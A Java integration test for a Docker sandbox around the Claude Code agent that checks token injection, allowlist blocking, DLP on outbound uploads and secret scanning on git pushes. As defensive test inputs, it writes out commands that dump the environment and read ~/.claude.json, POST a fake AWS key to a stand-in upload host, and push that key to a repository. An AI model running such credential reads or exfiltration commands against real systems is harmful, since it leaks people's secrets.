package dev.claudebottle.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/** The four promises of the demo, each in a real bottle, asserted on the agent's side and at the stand-ins. */
@Tag("docker")
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class FourPromisesDockerTest {

    /** Made up, shaped like an AWS access key id (gitleaks rule aws-access-key-id). */
    private static final String AWS_KEY = "AKIAZ7QW3RT5YU2IOP4M";

    @TempDir
    static Path folder;

    static Demo demo;

    @BeforeAll
    static void startStandins() {
        Demo.assumeReady();
        demo = Demo.start(folder);
    }

    @AfterAll
    static void stopStandins() {
        if (demo != null) {
            demo.close();
        }
    }

    @Test
    @Order(1)
    void claudeAnswersThroughInjectedToken() {
        Demo.Run run = demo.bottle("sh", "-c", "claude -p 'hello there'; echo; echo AGENT_ENV; env; cat ~/.claude.json 2>/dev/null");

        assertThat(run.stdout()).contains("Hello from the Messages API stand-in.");
        JsonNode request = demo.apiRequests().stream()
                .filter(r -> r.path("path").asText().startsWith("/v1/messages")).reduce((a, b) -> b).orElseThrow();
        assertThat(request.path("path").asText()).isEqualTo("/v1/messages?beta=true");
        assertThat(request.path("authorized").asBoolean()).as("the stand-in saw the injected token").isTrue();
        assertThat(request.path("stream").asBoolean()).isTrue();
        assertThat(request.path("user_text").asText()).isEqualTo("hello there");
        assertThat(request.path("body_bytes").asInt()).as("Claude Code's whole request body passed DLP")
                .isGreaterThan(20_000);
        assertThat(run.stdout()).as("the agent never holds the token").doesNotContain(demo.token);
    }

    @Test
    @Order(2)
    void hostOffAllowlistGets403() {
        Demo.Run run = demo.bottle("sh", "-c",
                "curl -sS -o /dev/null -w '%{http_connect}' https://blocked.example.test/ 2>/dev/null; exit 0");

        assertThat(run.stdout().strip()).isEqualTo("403");
    }

    @Test
    @Order(3)
    void credentialPostBlockedByDlp() {
        Demo.Run run = demo.bottle("sh", "-c", "curl -sS -w '\\n%{http_code}' -X POST --data-binary "
                + "'aws_access_key_id=" + AWS_KEY + "' https://api.standin.test/upload; exit 0");

        assertThat(run.stdout()).contains("dlp:aws-access-key-id").endsWith("403");
        assertThat(run.stdout()).doesNotContain(AWS_KEY);
        assertThat(demo.apiRequests()).filteredOn(r -> r.path("path").asText().equals("/upload"))
                .allSatisfy(r -> assertThat(r.path("body_bytes").asInt()).as("body bytes that reached the stand-in")
                        .isZero());
    }

    @Test
    @Order(4)
    void leakedKeyRejectedCleanPushForwarded() {
        String upstream = demo.standins.get("STANDIN_GIT_UPSTREAM");
        Demo.Run run = demo.bottle("sh", "-c", "cd ~ && git clone -q " + upstream + " work 2>&1 && cd work || exit 1\n"
                + "echo 'aws_access_key_id = " + AWS_KEY + "' > settings.ini && git add settings.ini"
                + " && git commit -qm 'Add settings'\n"
                + "git push origin HEAD:main 2>&1 && echo LEAK_PUSHED\n"
                + "git checkout -q --orphan clean && git rm -rqf --cached . && rm settings.ini\n"
                + "echo hello > README.md && git add README.md && git commit -qm 'Add a README'\n"
                + "git push origin clean:main 2>&1 && echo CLEAN_PUSHED");

        // Two rules match an AWS key id (gitleaks' aws-access-token and the exported aws-access-key-id);
        // the message names whichever gitleaks reports first.
        assertThat(run.stdout()).contains("remote rejected").containsPattern("rule aws-access-(key-id|token)")
                .contains("file settings.ini").doesNotContain(AWS_KEY).doesNotContain("LEAK_PUSHED");
        assertThat(run.stdout()).contains("CLEAN_PUSHED");
        assertThat(demo.upstreamSubjects()).containsExactly("Add a README");
    }

    @Test
    @Order(5)
    void teardownLeavesNothing() {
        assertThat(demo.identities).isNotEmpty();
        assertThat(demo.leftovers()).isEmpty();
    }
}
